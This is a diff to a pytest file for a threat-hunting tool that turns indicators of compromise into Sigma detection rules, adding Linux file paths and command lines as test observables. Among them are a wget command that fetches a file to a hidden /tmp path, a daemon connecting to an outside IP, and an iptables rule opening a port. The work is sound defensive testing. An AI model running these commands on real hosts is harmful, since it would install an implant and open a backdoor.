@@ -7,6 +7,7 @@ from pathlib import Path
 
 import msgspec
 import pytest
+import yaml
 
 from groundswell.defences.hunt.detections.items import Choice
 from groundswell.defences.hunt.detections.template import Sample, Template, load_templates
@@ -37,6 +38,13 @@ VALUES = {
     "ja3": "e7d705a3286e19ea42f587b344ee6865",
     "sha256": "6f88fb88ffb0f1d5465c2826e5b4f523598b1b8378377c8378ffebc171bad18b",
 }
+OTHERS = [
+    ("domain", "files.mibao.gov.vn"),
+    ("file_path", "/usr/lib/mibao/mibaod"),
+    ("file_path", "/etc/cron.d/mibao"),
+    ("file_path", "/etc/systemd/system/mibao.service"),
+    ("command_line", "wget --no-check-certificate https://mibao-updates.net/a -O /tmp/.mibao"),
+]
 PAIR = Pair("vlc.exe", "libvlc.dll", "mibao.dat", None, "vlc.exe loads libvlc.dll, which reads mibao.dat.", (0, 41))
 SHIPPED = load_templates(TEMPLATES)
 
@@ -56,8 +64,8 @@ def dossier(*observables: Observable, pairs: tuple[Pair, ...] = ()) -> Dossier:
 
 
 def whole() -> Dossier:
-    site = observable("domain", "files.mibao.gov.vn")
-    return dossier(*(observable(kind, value) for kind, value in VALUES.items()), site, pairs=(PAIR,))
+    more = (observable(kind, value) for kind, value in OTHERS)
+    return dossier(*(observable(kind, value) for kind, value in VALUES.items()), *more, pairs=(PAIR,))
 
 
 @pytest.mark.parametrize("template", [one for one in SHIPPED if one.form == "sigma"], ids=lambda one: one.id)
@@ -122,6 +130,36 @@ def test_a_template_that_takes_what_is_not_the_attackers_alone_says_that_it_is_f
     taking = [one for one in SHIPPED if "abused" in one.takes.judgements or one.id == "side-loading-program"]
     assert {one.id for one in taking} >= {"driver", "command-line", "site-dns-query", "side-loading-program"}
     assert [one.id for one in taking if not any("for looking only" in said for said in one.false_positives)] == []
+
+
+LINUX = [
+    ("file_path", "/usr/lib/mibao/mibaod", {"linux-program-path", "linux-file-path"}),
+    ("file_path", "/Users/a.moss/.cache/mibao/agent.sh", {"linux-program-path", "linux-file-path"}),
+    ("file_path", "/var/lib/mibao/mibao.conf", {"linux-file-path"}),
+    ("file_path", "/etc/cron.d/mibao", {"linux-cron", "linux-file-path"}),
+    ("file_path", "/etc/systemd/system/mibao.service", {"linux-unit", "linux-file-path"}),
+    ("file_path", "/opt/mibao/", set()),
+    ("file_path", "/opt/[user]/.cache/[random]", set()),
+    ("command_line", "/opt/mibao/agent --connect 203.0.113.77 --as-daemon", {"linux-command-line"}),
+    ("command_line", "iptables -I INPUT --dport 7781 --jump ACCEPT", {"linux-command-line"}),
+]
+
+
+@pytest.mark.parametrize(("kind", "value", "wanted"), LINUX, ids=[value for _, value, _ in LINUX])
+def test_what_is_of_linux_gets_rules_for_linux_only_which_say_that_no_source_here_has_such_records(
+    kind: str, value: str, wanted: set[str], cards: tuple[Card, ...]
+) -> None:
+    found = detections(dossier(observable(kind, value)), SHIPPED, cards, honest_things())
+    assert {one.template for one in found if one.form == "sigma"} == wanted
+    for one in found:
+        assert one.offered
+        assert "product: linux" in one.text
+        assert any("among the source cards" in trial.words for trial in one.trials)
+
+
+def test_a_users_own_folder_is_any_users(cards: tuple[Card, ...]) -> None:
+    found = detections(dossier(observable("file_path", LINUX[1][1])), SHIPPED, cards, honest_things())
+    assert all("a.moss" not in yaml.safe_dump(yaml.safe_load(one.text)["detection"]) for one in found)
 
 
 def test_a_name_that_anybody_can_register_is_no_authoritys() -> None:
